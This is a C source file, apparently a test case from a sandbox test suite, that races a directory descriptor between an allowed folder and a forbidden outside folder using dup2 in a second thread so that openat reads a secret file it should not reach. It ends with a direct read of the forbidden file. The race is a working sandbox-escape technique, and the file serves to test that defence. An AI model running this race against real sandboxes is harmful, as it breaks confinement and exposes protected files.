// Changes what a directory descriptor is between the check and the use: another thread puts another
// folder under its number. Plain, that is no attack, so the last try opens the forbidden one.
// class: OS sandboxes: a race on descriptors
// plain: leak
// journal: read {SECRET}
#include "race.h"

static int good_folder, bad_folder, racing = 100;

static void* swap(void* unused) {
  (void)unused;
  while (!race_over) {
    dup2(bad_folder, racing);
    dup2(good_folder, racing);
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  mkdir("good", 0755);
  put_file("good/secret.txt", "allowed\n");
  good_folder = open("good", O_PATH | O_DIRECTORY);
  bad_folder = open(fact("OUTSIDE"), O_PATH | O_DIRECTORY);
  if (bad_folder < 0) refused("O_PATH of the folder outside");
  dup2(good_folder, racing);
  const pthread_t thread = race_begin(swap);
  int opened = 0, won = 0;
  for (int i = 0; race_goes_on(i, TRIES); ++i) {
    const int fd = openat(racing, "secret.txt", O_RDONLY);
    if (fd < 0) continue;
    char content[256];
    const ssize_t n = read(fd, content, sizeof content);
    ++opened;
    if (n > 0 && memcmp(content, "allowed", 7) != 0 && !won++) leak(content, (size_t)n);
    close(fd);
  }
  race_end(thread);
  drain_and_close(openat(bad_folder, "secret.txt", O_RDONLY), "the last try");
  printf("opened %d of %d, %d of them forbidden\n", opened, TRIES, won);
  return 0;
}
